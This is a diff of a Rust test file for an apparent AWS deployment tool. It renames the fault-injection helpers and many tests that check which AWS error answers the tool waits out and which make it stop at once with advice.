@@ -1,5 +1,5 @@
 //! What AWS says when it means "not yet", and what it says when it means "no": each answer that the facts about AWS
-//! list is given on purpose, over the line between the deployer and our own AWS.
+//! list is given on purpose, by the proxy between the deployer and our own AWS.
 
 mod support;
 
@@ -7,96 +7,93 @@ use std::collections::BTreeSet;
 
 use support::{
     Said,
+    cloud::{connect, upload},
     hands::Hands,
-    line::{Trouble, parts},
-    protocol,
+    inventory::Inventory,
     run::Run,
     scene::{PICTURE, Phase, Scene},
-    world::{self, Inventory},
 };
+use testkit::programs::root;
+use testkit::proxy::{Fault, is_read, parts};
 
-/// Where each of the twenty cases of docs/aws.md §19 is tried; a test below sees that these tests are there.
-const CASES: [&[&str]; 20] = [
-    /* 1 */ &["a_role_that_lambda_cannot_assume_yet_is_waited_for"],
-    /* 2 */ &["an_old_role_that_lambda_cannot_assume_is_said_at_once"],
-    /* 3 */ &["a_permission_that_s3_does_not_see_yet_is_waited_for", "overlapping_filters_are_said_at_once"],
-    /* 4 */ &["an_update_of_the_code_in_progress_is_waited_for"],
-    /* 5 */ &["a_table_just_created_may_not_be_seen"],
-    /* 6 */ &["backups_of_a_new_table_are_being_enabled_at_first"],
+/// The tests of the cases of docs/aws.md §19, in its order.
+const CASES: [&[fn()]; 20] = [
+    /* 1 */ &[a_role_that_lambda_cannot_assume_yet_is_waited_for],
+    /* 2 */ &[an_old_role_that_lambda_cannot_assume_fails_at_once],
+    /* 3 */
+    &[a_permission_that_s3_does_not_see_yet_is_waited_for, overlapping_notification_filters_fail_at_once],
+    /* 4 */ &[an_update_of_the_code_in_progress_is_waited_for],
+    /* 5 */ &[a_new_table_that_cannot_be_seen_yet_is_waited_for],
+    /* 6 */ &[backups_of_a_new_table_that_are_still_being_enabled_are_waited_for],
     /* 7 */
-    &["a_protected_table_stays_whatever_the_code", "a_protected_table_stays_although_the_code_says_in_use"],
-    /* 8 */ &["what_somebody_made_a_moment_before_is_not_taken_for_ours"],
+    &[a_protected_table_stays_whatever_the_error_code, a_protected_table_stays_although_the_error_code_means_in_use],
+    /* 8: in rivals.rs */ &[],
     /* 9 */
     &[
-        "a_load_balancer_that_is_long_being_provisioned_is_waited_for",
-        "a_load_balancer_that_aws_could_not_provision_is_reported_with_the_reason",
+        a_load_balancer_that_is_long_being_provisioned_is_waited_for,
+        a_load_balancer_that_aws_could_not_provision_is_reported_with_the_reason,
     ],
     /* 10 */
     &[
-        "a_profile_that_the_group_cannot_see_yet_is_waited_for",
-        "a_group_whose_namesake_is_still_being_deleted_is_created_later",
+        a_profile_that_the_group_cannot_see_yet_is_waited_for,
+        a_group_whose_namesake_is_still_being_deleted_is_created_later,
     ],
     /* 11 */
     &[
-        "a_launch_that_can_never_succeed_ends_the_wait_with_its_reason",
-        "a_zone_without_room_is_no_reason_to_stop",
-        "zones_that_are_all_full_end_the_wait_at_its_limit_with_the_reason",
+        a_launch_that_can_never_succeed_ends_the_wait_with_its_reason,
+        a_zone_without_capacity_does_not_end_the_wait,
+        full_zones_end_the_wait_at_its_limit_with_the_reason,
     ],
-    /* 12 */ &["a_service_that_stays_unhealthy_ends_the_wait_at_its_limit_with_the_reason"],
+    /* 12 */ &[a_service_that_stays_unhealthy_ends_the_wait_at_its_limit_with_the_reason],
     /* 13 */
-    &["a_roll_out_that_fails_is_a_failure", "a_roll_out_that_is_being_rolled_back_is_watched_to_its_end"],
+    &[a_failed_roll_out_fails_the_run, a_roll_back_is_watched_to_its_end],
     /* 14 */
-    &["a_security_group_that_something_still_uses_is_deleted_later", "a_security_group_in_use_is_deleted_later"],
+    &[a_security_group_that_something_still_uses_is_deleted_later, a_security_group_in_use_is_deleted_later],
     /* 15 */
-    &["a_target_group_that_is_still_in_use_is_deleted_later", "a_role_that_still_hangs_in_a_profile_is_deleted_later"],
+    &[a_target_group_that_is_still_in_use_is_deleted_later, a_role_that_is_still_in_a_profile_is_deleted_later],
     /* 16 */
     &[
-        "an_object_that_cannot_be_deleted_is_named_and_the_bucket_stays",
-        "versions_markers_and_unfinished_uploads_go_with_their_bucket",
+        an_object_that_cannot_be_deleted_is_named_and_the_bucket_stays,
+        versions_markers_and_unfinished_uploads_are_deleted_with_their_bucket,
     ],
     /* 17 */
     &[
-        "a_bucket_name_taken_by_another_account_is_never_ours_and_never_absent",
-        "a_bucket_of_a_stranger_is_never_ours_and_never_absent",
+        a_bucket_name_taken_by_another_account_is_never_ours_and_never_absent,
+        a_bucket_of_a_stranger_is_never_ours_and_never_absent,
     ],
     /* 18 */
     &[
-        "every_list_is_read_to_its_last_page",
-        "every_list_of_what_goes_is_read_to_its_last_page",
-        "an_empty_first_page_is_not_the_last",
-        "an_empty_marker_ends_a_list",
+        every_list_is_read_to_its_last_page,
+        every_list_read_by_down_is_read_to_its_last_page,
+        an_empty_first_page_is_not_the_last,
+        an_empty_marker_ends_a_list,
     ],
-    /* 19 */
-    &[
-        "up_killed_after_any_call_is_completed_by_the_next",
-        "down_killed_after_any_call_is_completed_by_the_next",
-        "any_row_of_killed_commands_can_be_ended_by_up_or_by_down",
-    ],
-    /* 20 */ &["credentials_that_expire_in_the_middle_of_a_wait_end_it"],
+    /* 19: in crashes.rs */ &[],
+    /* 20 */ &[credentials_that_expire_during_a_wait_end_it],
 ];
 
 #[test]
 fn every_case_of_the_checklist_has_its_tests() {
-    let tests = [include_str!("answers.rs"), include_str!("crashes.rs"), include_str!("rivals.rs")].concat();
-    for (case, names) in (1..).zip(CASES) {
-        for name in names {
-            let is_there = [format!("fn {name}("), format!("    {name}:")].iter().any(|text| tests.contains(text));
-            assert!(is_there, "case {case}: {name} is no test");
-        }
-    }
+    let facts = std::fs::read_to_string(root().join("docs/aws.md")).expect("the facts are there");
+    let (_, checklist) = facts.split_once("\n## 19. ").expect("the checklist is there");
+    let (checklist, _) = checklist.split_once("\n## ").expect("it is not the last section");
+    let cases = (1..).take_while(|case| checklist.contains(&format!("\n{case}. "))).count();
+    assert_eq!(cases, CASES.len());
+    let untested = (1..).zip(CASES).filter(|(case, tests)| ![8, 19].contains(case) && tests.is_empty());
+    assert_eq!(untested.count(), 0);
 }
 
 /// AWS answers "not yet" `times` times: the command waits, and completes.
 async fn waits_for(phase: Phase, operation: &str, status: u16, code: &'static str, message: &str, times: usize) {
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     scene.prepare(phase).await;
     if operation == "UpdateFunctionCode" {
         scene.project.change_function();
     }
-    scene.line.spoil([operation], Trouble::refused(status, code, message), times);
+    scene.proxy.inject([operation], Fault::refused(status, code, message), times);
     let said = scene.done(phase).await;
     assert!(!said.stderr.contains("error:"), "{}", said.stderr);
-    assert!(scene.line.spoilt().contains(operation), "{operation} was never called: {:?}", scene.line.calls());
+    assert!(scene.proxy.hit().contains(operation), "{operation} was never called: {:?}", scene.proxy.calls());
     match phase {
         Phase::Down => assert_eq!(scene.inventory().await, Inventory::new()),
         _ => scene.assert_nothing_to_do(operation).await,
@@ -115,14 +112,14 @@ macro_rules! not_yet {
 
 // The table of docs/aws.md §2.3, and those of §19 that are one answer. What is not here: RunInstances, which the group
 // calls and not we; what is only called to put right what was changed by hand, see `repaired_later!`; DescribeListeners,
-// see `a_listener_just_made_may_not_be_seen`; PutRetentionPolicy, see
-// `a_permission_of_the_users_own_that_is_missing_is_said_at_once`.
+// see `a_listener_that_cannot_be_seen_yet_is_waited_for`; PutRetentionPolicy, see
+// `a_missing_permission_of_the_user_fails_at_once`.
 not_yet! {
     a_role_that_lambda_cannot_assume_yet_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "The role defined for the function cannot be assumed by Lambda.";
     a_role_whose_policy_lambda_does_not_see_yet_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "The provided execution role does not have permissions to call CreateNetworkInterface on EC2";
-    lambda_being_throttled_by_ec2_is_waited_for:
+    lambda_throttled_by_ec2_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "Lambda was unable to configure access to your environment variables because it was throttled by EC2";
     a_key_grant_that_is_not_there_yet_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "The KMS key is invalid for CreateGrant.";
@@ -130,7 +127,7 @@ not_yet! {
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The role defined for the function cannot be assumed by Lambda.";
     a_role_whose_policy_lambda_does_not_see_yet_is_waited_for_in_an_update:
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The provided execution role does not have permissions to call CreateNetworkInterface on EC2";
-    lambda_being_throttled_by_ec2_is_waited_for_in_an_update:
+    lambda_throttled_by_ec2_is_waited_for_in_an_update:
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "Lambda was unable to configure access to your environment variables because it was throttled by EC2";
     a_key_grant_that_is_not_there_yet_is_waited_for_in_an_update:
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The KMS key is invalid for CreateGrant.";
@@ -150,9 +147,9 @@ not_yet! {
         Up, "PutRolePolicy", 404, "NoSuchEntity", "The role with name x cannot be found.";
     a_profile_that_cannot_be_seen_yet_gets_its_role_later:
         Up, "AddRoleToInstanceProfile", 400, "InvalidParameterValue", "Invalid IAM Instance Profile name";
-    a_role_that_cannot_be_seen_yet_gets_into_its_profile_later:
+    a_role_that_cannot_be_seen_yet_is_added_to_its_profile_later:
         Up, "AddRoleToInstanceProfile", 404, "NoSuchEntity", "The role with name x cannot be found.";
-    a_role_that_still_hangs_in_a_profile_is_deleted_later:
+    a_role_that_is_still_in_a_profile_is_deleted_later:
         Down, "DeleteRole", 409, "DeleteConflict", "Cannot delete entity, must remove roles from instance profile first.";
     a_profile_that_still_holds_a_role_is_deleted_later:
         Down, "DeleteInstanceProfile", 409, "DeleteConflict", "Cannot delete entity, must remove roles from instance profile first.";
@@ -186,11 +183,11 @@ not_yet! {
         Up, "CreateBucket", 409, "OperationAborted", "A conflicting conditional operation is currently in progress against this resource. Please try again.";
     a_log_group_that_somebody_else_is_changing_is_deleted_later:
         Down, "DeleteLogGroup", 400, "OperationAbortedException", "A conflicting operation is currently in progress against this resource. Please try again.";
-    a_table_waits_while_too_many_others_change:
+    a_table_is_retried_while_too_many_others_change:
         Up, "CreateTable", 400, "LimitExceededException", "Subscriber limit exceeded: Only 500 tables can be created, updated, or deleted simultaneously";
-    a_table_waits_while_too_many_others_with_indexes_come:
+    a_table_is_retried_while_too_many_others_with_indexes_are_created:
         Up, "CreateTable", 400, "LimitExceededException", "Subscriber limit exceeded: There is a limit to the number of indexed tables that can be created simultaneously";
-    a_table_just_created_may_not_be_seen:
+    a_new_table_that_cannot_be_seen_yet_is_waited_for:
         Up, "DescribeTable", 400, "ResourceNotFoundException", "Requested resource not found: Table: x not found";
     a_table_that_is_being_updated_is_deleted_later:
         Down, "DeleteTable", 400, "ResourceInUseException", "Attempt to change a resource which is still in use: Table is being updated: x";
@@ -216,14 +213,14 @@ not_yet! {
 
 /// The same of a call that only puts right what somebody has changed by hand.
 async fn waits_for_in_a_repair(changed: (&str, &str), operation: &str, status: u16, code: &'static str, message: &str) {
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let (address, field) = changed;
-    Hands::of(&world::connect(&scene.endpoint(), scene.keys).await).change(address, field).await;
-    scene.line.spoil([operation], Trouble::refused(status, code, message), 3);
+    Hands::of(&connect(&scene.endpoint(), scene.keys).await).change(address, field).await;
+    scene.proxy.inject([operation], Fault::refused(status, code, message), 3);
     let said = scene.done(Phase::Up).await;
     assert!(!said.stderr.contains("error:"), "{}", said.stderr);
-    assert!(scene.line.spoilt().contains(operation), "{operation} was never called: {:?}", scene.line.calls());
+    assert!(scene.proxy.hit().contains(operation), "{operation} was never called: {:?}", scene.proxy.calls());
     scene.assert_nothing_to_do(operation).await;
     scene.end().await;
 }
@@ -250,15 +247,15 @@ repaired_later! {
 
 /// The answer of its creation is believed; the looks of a run just after that do not find it.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_listener_just_made_may_not_be_seen() {
-    let scene = Scene::ours().await;
+async fn a_listener_that_cannot_be_seen_yet_is_waited_for() {
+    let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let before = scene.inventory().await;
-    scene.line.mend();
-    let unseen = Trouble::refused(400, "ListenerNotFound", "One or more listeners not found");
-    scene.line.spoil(["DescribeListeners"], unseen, 3);
+    scene.proxy.reset();
+    let unseen = Fault::refused(400, "ListenerNotFound", "One or more listeners not found");
+    scene.proxy.inject(["DescribeListeners"], unseen, 3);
     scene.done(Phase::Up).await;
-    assert!(scene.line.spoilt().contains("DescribeListeners"), "{:?}", scene.line.calls());
+    assert!(scene.proxy.hit().contains("DescribeListeners"), "{:?}", scene.proxy.calls());
     assert_eq!(scene.inventory().await, before, "nothing was made twice");
     scene.assert_nothing_to_do("a listener was not seen").await;
     scene.clear().await;
@@ -299,24 +296,24 @@ fn assert_standing_is_told(said: &Said) {
 /// AWS says no, and will say so for ever: the command stops at once, finishes what does not depend on it and tells what
 /// failed, in AWS's words, where in stack.yaml, what to do, what exists now, and that the same command continues; which
 /// it then does.
-async fn stops_at(phase: Phase, operation: &str, refusal: Trouble, exit: i32, told: &[&str]) {
+async fn stops_at(phase: Phase, operation: &str, refusal: Fault, exit: i32, told: &[&str]) {
     let (before, after) = stops(phase, operation, refusal, exit, told).await;
     assert_ne!(before, after, "what does not depend on it is done");
 }
 
 /// The same where everything depends on it.
-async fn stops_before(phase: Phase, operation: &str, refusal: Trouble, exit: i32, told: &[&str]) {
+async fn stops_before(phase: Phase, operation: &str, refusal: Fault, exit: i32, told: &[&str]) {
     let (before, after) = stops(phase, operation, refusal, exit, told).await;
     assert_eq!(before, after, "nothing is done");
 }
 
 /// Returns what there is before and after the refusal.
-async fn stops(phase: Phase, operation: &str, refusal: Trouble, exit: i32, told: &[&str]) -> (Inventory, Inventory) {
-    let Trouble::Refused(_, code, words) = refusal.clone() else { panic!("a refusal is wanted") };
-    let scene = Scene::ours().await;
+async fn stops(phase: Phase, operation: &str, refusal: Fault, exit: i32, told: &[&str]) -> (Inventory, Inventory) {
+    let Fault::Refused(_, code, words) = refusal.clone() else { panic!("a refusal is wanted") };
+    let scene = Scene::local().await;
     scene.prepare(phase).await;
     let before = scene.inventory().await;
-    scene.line.spoil([operation], refusal, usize::MAX);
+    scene.proxy.inject([operation], refusal, usize::MAX);
     let said = scene.run(phase.arguments()).await;
     assert_eq!(said.code, exit, "{}", said.all());
     assert_standing_is_told(&said);
@@ -326,12 +323,12 @@ async fn stops(phase: Phase, operation: &str, refusal: Trouble, exit: i32, told:
     }
     let remedies = remedies(&said, &words);
     assert!(told.iter().all(|text| remedies.contains(text)), "{told:?} is missing in {remedies:?}: {}", said.stderr);
-    if !protocol::is_read(operation) {
-        let refused = scene.line.calls().iter().filter(|call| parts(call).0 == operation).count();
+    if !is_read(operation) {
+        let refused = scene.proxy.calls().iter().filter(|call| parts(call).0 == operation).count();
         assert!(refused <= 2, "it was tried again: {refused} calls of {operation}");
     }
     let after = scene.inventory().await;
-    scene.line.mend();
+    scene.proxy.reset();
     scene.done(phase).await;
     if phase != Phase::Down {
         scene.assert_nothing_to_do("the cause was removed").await;
@@ -344,116 +341,116 @@ macro_rules! never {
     ($how:ident: $($test:ident: $phase:ident, $operation:literal, $status:literal, $code:literal, $message:literal, exit $exit:literal, $told:expr;)*) => {
         $(#[tokio::test(flavor = "multi_thread")]
         async fn $test() {
-            $how(Phase::$phase, $operation, Trouble::refused($status, $code, $message), $exit, &$told).await;
+            $how(Phase::$phase, $operation, Fault::refused($status, $code, $message), $exit, &$told).await;
         })*
     };
 }
 
 never! { stops_before:
-    an_identity_that_is_refused_is_said_at_once:
+    a_refused_identity_fails_at_once:
         Up, "GetCallerIdentity", 403, "InvalidClientTokenId", "The security token included in the request is invalid.",
         exit 77, ["renew the credentials"];
-    a_network_that_may_not_be_looked_for_is_said_at_once:
+    a_forbidden_look_up_of_the_network_fails_at_once:
         Up, "DescribeVpcs", 403, "UnauthorizedOperation", "You are not authorized to perform this operation.",
         exit 1, ["allow `DescribeVpcs`"];
-    a_network_that_may_not_be_looked_for_is_said_by_down_too:
+    a_forbidden_look_up_of_the_network_fails_down_as_well:
         Down, "DescribeVpcs", 403, "UnauthorizedOperation", "You are not authorized to perform this operation.",
         exit 1, ["allow `DescribeVpcs`"];
-    functions_that_may_not_be_listed_are_said_at_once:
+    a_forbidden_list_of_functions_fails_at_once:
         Change, "ListFunctions", 403, "AccessDeniedException", "User: x is not authorized to perform: lambda:ListFunctions on resource: *",
         exit 1, ["allow `lambda:ListFunctions` for this stack"];
-    buckets_whose_tags_may_not_be_read_are_said_at_once:
+    bucket_tags_that_may_not_be_read_fail_at_once:
         Up, "GetBucketTagging", 403, "AccessDenied", "Access Denied", exit 1, ["allow `GetBucketTagging` for bucket.", "another `name`"];
-    an_artifact_bucket_that_may_not_be_made_is_said_at_once:
+    a_forbidden_artifact_bucket_fails_at_once:
         Up, "CreateBucket", 403, "AccessDenied", "Access Denied", exit 1, ["allow `CreateBucket` for bucket.artifacts"];
-    an_artifact_bucket_too_many_is_said_at_once:
+    an_artifact_bucket_beyond_the_quota_fails_at_once:
         Up, "CreateBucket", 400, "TooManyBuckets", "You have attempted to create more buckets than allowed",
         exit 1, ["Service Quotas", "bucket.artifacts"];
 }
 
 never! { stops_at:
-    a_lease_that_may_not_be_written_is_said_at_once:
+    a_lease_that_may_not_be_written_fails_at_once:
         Up, "PutObject", 403, "AccessDenied", "Access Denied", exit 1, ["allow `PutObject` for this stack"];
-    a_forbidden_role_is_said_at_once_with_the_way_out_of_a_learner_lab:
+    a_forbidden_role_fails_at_once_with_the_remedy_for_a_learner_lab:
         Up, "CreateRole", 403, "AccessDenied", "User: arn:aws:sts::000000000000:assumed-role/voclabs/u is not authorized to perform: iam:CreateRole on resource: x because no identity-based policy allows the iam:CreateRole action",
         exit 1, ["roles: { existing: LabRole"];
     // Here we differ from Terraform on purpose, which waits two minutes for a policy of the user's own to become known
     // (docs/aws.md §2.3): nobody gives himself a permission and runs `up` within seconds, while many do not have it, and
     // should not wait to hear so.
-    a_permission_of_the_users_own_that_is_missing_is_said_at_once:
+    a_missing_permission_of_the_user_fails_at_once:
         Up, "PutRetentionPolicy", 400, "AccessDeniedException", "User: x is not authorized to perform: logs:PutRetentionPolicy because no identity-based policy allows the logs:PutRetentionPolicy action",
         exit 1, ["allow `logs:PutRetentionPolicy`", "log_group.labeler"];
-    a_permission_that_is_missing_in_ec2_is_said_at_once:
+    a_missing_permission_in_ec2_fails_at_once:
         Up, "CreateSecurityGroup", 403, "UnauthorizedOperation", "You are not authorized to perform this operation. Encoded authorization failure message: 4fX",
         exit 1, ["allow `CreateSecurityGroup`", "security_group.web-lb"];
-    a_quota_is_said_at_once:
+    a_quota_fails_at_once:
         Up, "CreateRole", 409, "LimitExceeded", "Cannot exceed quota for RolesPerAccount: 1000",
         exit 1, ["Service Quotas", "role.labeler-fn"];
-    a_quota_of_load_balancers_is_said_at_once:
+    a_quota_of_load_balancers_fails_at_once:
         Up, "CreateLoadBalancer", 400, "TooManyLoadBalancers", "The maximum number of load balancers has been reached",
         exit 1, ["Service Quotas", "load_balancer.web"];
-    a_machine_image_that_is_not_there_is_said_at_once:
+    a_missing_machine_image_fails_at_once:
         Up, "CreateAutoScalingGroup", 400, "ValidationError", "You must use a valid fully-formed launch template. The image id '[ami-0]' does not exist",
         exit 1, ["correct `image`"];
-    a_machine_image_that_the_launch_template_refuses_is_said_at_once:
+    a_machine_image_that_the_launch_template_refuses_fails_at_once:
         Up, "CreateLaunchTemplate", 400, "InvalidAMIID.Malformed", "Invalid id: \"ami-x\" (expecting \"ami-...\")",
         exit 1, ["correct `image`"];
-    an_account_without_load_balancers_is_sent_to_support:
+    an_account_without_load_balancers_is_referred_to_support:
         Up, "CreateLoadBalancer", 400, "OperationNotPermitted", "This AWS account currently does not support creating load balancers. For more information, please contact AWS Support.",
         exit 1, ["only AWS Support can allow"];
-    a_statement_of_somebody_else_is_not_waited_for:
+    a_statement_id_that_exists_fails_at_once:
         Up, "AddPermission", 409, "ResourceConflictException", "The statement id (x) provided already exists. Please provide a new statement id, or remove the existing statement.",
         exit 1, ["aws lambda remove-permission"];
-    overlapping_filters_are_said_at_once:
+    overlapping_notification_filters_fail_at_once:
         Up, "PutBucketNotificationConfiguration", 400, "InvalidArgument", "Configurations overlap. Configurations on the same bucket cannot share a common event type; overlapping suffixes",
         exit 1, ["take that out by hand"];
-    a_handler_that_lambda_refuses_is_said_at_once:
+    a_handler_that_lambda_refuses_fails_at_once:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "Uploaded file must be a non-empty zip",
         exit 1, ["function.labeler", "correct its entry"];
-    credentials_that_expire_in_the_middle_of_a_wait_end_it:
+    credentials_that_expire_during_a_wait_end_it:
         Up, "DescribeLoadBalancers#2", 403, "ExpiredToken", "The security token included in the request is expired", exit 77, ["renew the credentials"];
-    a_protected_table_stays_whatever_the_code:
+    a_protected_table_stays_whatever_the_error_code:
         Down, "DeleteTable", 400, "ValidationException", "Resource cannot be deleted as it is currently protected against deletion. Disable deletion protection first.",
         exit 1, ["protect: false"];
-    a_protected_table_stays_although_the_code_says_in_use:
+    a_protected_table_stays_although_the_error_code_means_in_use:
         Down, "DeleteTable", 400, "ResourceInUseException", "Resource cannot be deleted as it is currently protected against deletion. Disable deletion protection first.",
         exit 1, ["protect: false"];
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn backups_of_a_new_table_are_being_enabled_at_first() {
-    let scene = Scene::ours().await;
+async fn backups_of_a_new_table_that_are_still_being_enabled_are_waited_for() {
+    let scene = Scene::local().await;
     scene.project.edit("sort_key: id", "sort_key: id, point_in_time_recovery: true");
     let words = "Backups are being enabled for the table: x. Please retry later";
-    let refused = Trouble::refused(400, "ContinuousBackupsUnavailableException", words);
-    scene.line.spoil(["UpdateContinuousBackups"], refused, 5);
+    let refused = Fault::refused(400, "ContinuousBackupsUnavailableException", words);
+    scene.proxy.inject(["UpdateContinuousBackups"], refused, 5);
     scene.done(Phase::Up).await;
-    assert!(scene.line.spoilt().contains("UpdateContinuousBackups"), "{:?}", scene.line.calls());
+    assert!(scene.proxy.hit().contains("UpdateContinuousBackups"), "{:?}", scene.proxy.calls());
     scene.assert_nothing_to_do("the backups are enabled").await;
     scene.end().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn an_old_role_that_lambda_cannot_assume_is_said_at_once() {
-    let scene = Scene::ours().await;
+async fn an_old_role_that_lambda_cannot_assume_fails_at_once() {
+    let scene = Scene::local().await;
     let words = "The role defined for the function cannot be assumed by Lambda.";
-    scene.line.spoil(["CreateFunction"], Trouble::refused(400, "InvalidParameterValueException", words), usize::MAX);
-    scene.line.spoil(["GetRole"], Trouble::reworded(&[("<CreateDate>20", "<CreateDate>19")]), usize::MAX);
+    scene.proxy.inject(["CreateFunction"], Fault::refused(400, "InvalidParameterValueException", words), usize::MAX);
+    scene.proxy.inject(["GetRole"], Fault::reworded(&[("<CreateDate>20", "<CreateDate>19")]), usize::MAX);
     let said = scene.run(Phase::Up.arguments()).await;
     assert_eq!(said.code, 1, "{}", said.all());
     assert!(said.stderr.contains(words) && said.stderr.contains("trust policy"), "{}", said.stderr);
-    assert_eq!(scene.line.calls().iter().filter(|call| call.starts_with("CreateFunction")).count(), 1);
+    assert_eq!(scene.proxy.calls().iter().filter(|call| call.starts_with("CreateFunction")).count(), 1);
     scene.end().await;
 }
 
 /// Brings the stack up and says of the fleet what `answers` say.
-async fn up_with_fleet(answers: &[(&str, Trouble)], more: &[&str]) -> Said {
-    let scene = Scene::ours().await;
+async fn up_with_fleet(answers: &[(&str, Fault)], more: &[&str]) -> Said {
+    let scene = Scene::local().await;
     for (operation, trouble) in answers {
-        scene.line.spoil([*operation], trouble.clone(), usize::MAX);
+        scene.proxy.inject([*operation], trouble.clone(), usize::MAX);
     }
     let said = scene.run(&[&["up", "--yes"], more].concat()).await;
-    scene.line.mend();
+    scene.proxy.reset();
     scene.done(Phase::Down).await;
     scene.end().await;
     said
@@ -471,8 +468,8 @@ fn assert_the_service_failed(said: &Said, words: &str, advice: &str) {
     assert!(said.stderr.contains("failed (1): service.web"), "{}", said.stderr);
 }
 
-fn never_healthy() -> (&'static str, Trouble) {
-    ("DescribeTargetHealth", Trouble::reworded(&[("<State>healthy</State>", "<State>initial</State>")]))
+fn never_healthy() -> (&'static str, Fault) {
+    ("DescribeTargetHealth", Fault::reworded(&[("<State>healthy</State>", "<State>initial</State>")]))
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -498,7 +495,7 @@ async fn a_launch_that_can_never_succeed_ends_the_wait_with_its_reason() {
     ];
     for (text, advice) in failures {
         let failed = format!("<StatusCode>Failed</StatusCode><StatusMessage>{text}</StatusMessage>");
-        let activities = Trouble::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
+        let activities = Fault::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
         let said = up_with_fleet(&[("DescribeScalingActivities", activities), never_healthy()], &[]).await;
         assert_the_service_failed(&said, text, advice);
     }
@@ -507,23 +504,23 @@ async fn a_launch_that_can_never_succeed_ends_the_wait_with_its_reason() {
 /// What AWS says when a zone has no room for an instance.
 const NO_ROOM: &str = "We currently do not have sufficient t3.micro capacity in the Availability Zone you requested (us-east-1a). Our system will be working on provisioning additional capacity. Launching EC2 instance failed.";
 
-fn no_room() -> (&'static str, Trouble) {
+fn no_room() -> (&'static str, Fault) {
     let failed = format!("<StatusCode>Failed</StatusCode><StatusMessage>{NO_ROOM}</StatusMessage>");
-    let activities = Trouble::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
+    let activities = Fault::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
     ("DescribeScalingActivities", activities)
 }
 
 /// The group tries the next zone by itself.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_zone_without_room_is_no_reason_to_stop() {
-    let scene = Scene::ours().await;
+async fn a_zone_without_capacity_does_not_end_the_wait() {
+    let scene = Scene::local().await;
     let (activities, answer) = no_room();
-    scene.line.spoil([activities], answer, usize::MAX);
+    scene.proxy.inject([activities], answer, usize::MAX);
     let (health, ill) = never_healthy();
-    scene.line.spoil([health], ill, 3);
+    scene.proxy.inject([health], ill, 3);
     let said = scene.run(&["up", "--yes"]).await;
     assert_eq!(said.code, 0, "{}", said.all());
-    assert!(scene.line.spoilt().contains(activities), "nobody asked what the group did: {:?}", scene.line.calls());
+    assert!(scene.proxy.hit().contains(activities), "nobody asked what the group did: {:?}", scene.proxy.calls());
     scene.clear().await;
     scene.end().await;
 }
@@ -531,12 +528,12 @@ async fn a_zone_without_room_is_no_reason_to_stop() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_load_balancer_that_is_long_being_provisioned_is_waited_for() {
     const LOOKS: usize = 8;
-    let scene = Scene::ours().await;
-    let busy = Trouble::reworded(&[("<Code>active</Code>", "<Code>provisioning</Code>")]);
-    scene.line.spoil(["DescribeLoadBalancers"], busy, LOOKS);
+    let scene = Scene::local().await;
+    let busy = Fault::reworded(&[("<Code>active</Code>", "<Code>provisioning</Code>")]);
+    scene.proxy.inject(["DescribeLoadBalancers"], busy, LOOKS);
     let said = scene.done(Phase::Up).await;
     assert!(said.stderr.contains("load_balancer.web: provisioning"), "{}", said.stderr);
-    let looks = scene.line.calls().iter().filter(|call| call.starts_with("DescribeLoadBalancers#")).count();
+    let looks = scene.proxy.calls().iter().filter(|call| call.starts_with("DescribeLoadBalancers#")).count();
     assert!(looks > LOOKS, "it was content after {looks} looks");
     scene.assert_nothing_to_do("provisioned").await;
     scene.clear().await;
@@ -544,11 +541,11 @@ async fn a_load_balancer_that_is_long_being_provisioned_is_waited_for() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn zones_that_are_all_full_end_the_wait_at_its_limit_with_the_reason() {
+async fn full_zones_end_the_wait_at_its_limit_with_the_reason() {
     let text = "InsufficientInstanceCapacity: We currently do not have sufficient t3.micro capacity in the Availability \
                 Zone you requested (us-east-1a). Launching EC2 instance failed.";
     let failed = format!("<StatusCode>Failed</StatusCode><StatusMessage>{text}</StatusMessage>");
-    let activities = Trouble::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
+    let activities = Fault::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
     let answers = [("DescribeScalingActivities", activities), never_healthy()];
     let said = up_with_fleet(&answers, &["--healthy-within", "3"]).await;
     assert_the_service_failed(&said, text, "choose another `instance_type`");
@@ -558,13 +555,13 @@ async fn zones_that_are_all_full_end_the_wait_at_its_limit_with_the_reason() {
 /// What the target group's own creation has answered, other parts of AWS may not know yet.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_target_group_that_cannot_be_seen_yet_is_waited_for_by_the_wait_for_health() {
-    let scene = Scene::ours().await;
-    let refused = Trouble::refused(400, "TargetGroupNotFound", "One or more target groups not found");
-    scene.line.spoil(["DescribeTargetHealth"], refused, 3);
+    let scene = Scene::local().await;
+    let refused = Fault::refused(400, "TargetGroupNotFound", "One or more target groups not found");
+    scene.proxy.inject(["DescribeTargetHealth"], refused, 3);
     let said = scene.run(&["up", "--yes"]).await;
     assert_eq!(said.code, 0, "{}", said.all());
     assert!(!said.stderr.contains("error:"), "{}", said.stderr);
-    assert!(scene.line.spoilt().contains("DescribeTargetHealth"), "{:?}", scene.line.calls());
+    assert!(scene.proxy.hit().contains("DescribeTargetHealth"), "{:?}", scene.proxy.calls());
     scene.clear().await;
     scene.end().await;
 }
@@ -572,7 +569,7 @@ async fn a_target_group_that_cannot_be_seen_yet_is_waited_for_by_the_wait_for_he
